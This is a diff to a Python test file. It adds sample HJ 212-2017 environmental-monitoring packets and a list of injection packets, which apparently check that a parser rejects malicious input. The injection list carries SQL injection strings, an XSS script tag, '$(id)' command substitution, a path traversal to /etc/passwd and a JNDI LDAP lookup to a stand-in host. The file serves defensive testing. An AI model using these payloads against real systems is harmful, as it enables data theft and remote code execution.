@@ -322,11 +322,44 @@ LATEX_INJECTIONS = [  # each must fall back to every rule
     "(system)(id)", "(sys.tem)(id)", r"(\system)(id)", "(system)[0]",
 ]
 
+HJ212 = [  # HJ 212-2017 packets as 数采仪 HTTP gateways forward them (one per value), with and without CR LF
+    # corpus L tuning part, eco-environment/hj212-batch (10430, 10440, 10120 on json.packets.array_N)
+    "##0220QN=20270307160200411;ST=32;CN=2011;PW=123456;MN=52016609618234;Flag=5;CP=&&DataTime=20270307160200;"
+    "w01018-Rtd=8.89,w01018-Flag=N;w21003-Rtd=4.06,w21003-Flag=N;w01001-Rtd=8.50,w01001-Flag=D;"
+    "w21011-Rtd=0.63,w21011-Flag=N&&B381\r\n",
+    "##0359QN=20270219183500941;ST=31;CN=2051;PW=123456;MN=52012639358035;Flag=5;CP=&&DataTime=20270219183500;"
+    "a21026-Min=35.42,a21026-Avg=44.28,a21026-Max=53.14,a21026-Flag=N;a34013-ZsRtd=6.48,a34013-Flag=N&&0500\r\n",
+    # the standard's other shapes: a response (ST=91, no CP parameters), a split packet, a negative value, no CR LF
+    "##0047QN=20160801085857223;ST=91;CN=9014;PW=123456;MN=010000A8900016F000169DC0;Flag=4;CP=&&&&1C80\r\n",
+    "##0101QN=20160801085857223;ST=32;CN=2011;PW=123456;MN=88888880000001;Flag=9;PNUM=2;PNO=1;CP=&&"
+    "DataTime=20160801085857;PolId=w01018;BeginTime=20160801000000;EndTime=20160801235959&&4A80",
+    "##0090QN=20260101000000001;ST=27;CN=2011;PW=a1b2c3;MN=ABC_01-2;Flag=5;CP=&&DataTime=20260101000000;"
+    "a01001-Rtd=-12.5,a01001-Flag=N&&0A1F",
+]
+HJ212_INJECTIONS = [  # each must fall back to every rule
+    "##0101QN=1;ST=32;CN=2011;PW=1' or '1'='1;MN=1;Flag=5;CP=&&DataTime=1&&4A80",
+    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1 union select password from users;Flag=5;CP=&&DataTime=1&&4A80",
+    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=1;drop table t&&4A80",
+    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=union&&4A80",
+    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=1--&&4A80",
+    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=sleep(5)&&4A80",
+    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=<script>alert(1)</script>&&4A80",
+    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=$(id)&&4A80",
+    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=../../etc/passwd&&4A80",
+    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1&&4A80\r\n1 union select 1",
+    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1&&4A80;select 1",
+    "##0101QN=1;ST=32;X=1 or 1=1;Flag=5;CP=&&DataTime=1&&4A80",  # a header field the standard does not have
+    "QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1&&4A80",  # no frame
+    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1&&4A8",  # no CRC
+    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=0x7e%27&&4A80",
+    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=${jndi:ldap://x.example/a}&&4A80",
+    "1 or 1=1",
+]
 
 # language: (values its clients send, which must be the grammar; injections, which must fall back to every rule)
 TABLES = {"filter-sql": (FILTERS, INJECTIONS), "cql": (CQL, CQL_INJECTIONS), "graphql": (GRAPHQL, GRAPHQL_INJECTIONS),
           "report-formula": (REPORT_FORMULAS, REPORT_FORMULA_INJECTIONS), "sdp": (SDP, SDP_INJECTIONS),
-          "odata": (ODATA, ODATA_INJECTIONS), "latex": (LATEX, LATEX_INJECTIONS)}
+          "odata": (ODATA, ODATA_INJECTIONS), "latex": (LATEX, LATEX_INJECTIONS), "hj212": (HJ212, HJ212_INJECTIONS)}
 
 
 @pytest.mark.parametrize(("language", "value"), [(lang, v) for lang, (ok, _) in TABLES.items() for v in ok])
